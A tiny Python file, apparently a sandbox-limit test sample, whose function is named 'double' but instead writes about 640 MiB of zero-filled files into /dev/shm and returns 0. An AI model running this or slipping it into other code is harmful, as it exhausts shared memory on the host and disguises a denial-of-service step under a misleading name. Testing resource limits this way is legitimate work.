# mypy: ignore-errors
def double(n):
    for number in range(40):
        with open(f"/dev/shm/{number}", "wb") as file:
            for _ in range(16):
                file.write(bytes(1 << 20))
    return 0
